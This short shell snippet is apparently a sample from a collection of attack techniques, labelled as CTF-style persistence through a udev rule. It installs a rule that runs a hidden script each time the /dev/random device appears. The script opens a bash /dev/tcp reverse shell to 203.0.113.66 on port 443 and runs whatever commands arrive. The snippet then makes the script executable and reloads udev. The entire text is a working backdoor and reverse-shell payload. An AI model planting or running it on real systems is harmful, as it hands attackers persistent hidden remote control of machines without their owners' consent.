# class: persistence, udev rule; style: CTF-like
echo 'ACTION=="add", ENV{MAJOR}=="1", ENV{MINOR}=="8", RUN+="/lib/udev/.rnd"' > /lib/udev/rules.d/75-random.rules
cat > /lib/udev/.rnd <<'E'
#!/bin/bash
exec 5<>/dev/tcp/203.0.113.66/443; cat <&5 | while read l; do $l 2>&5 >&5; done
E
chmod +x /lib/udev/.rnd; udevadm control --reload
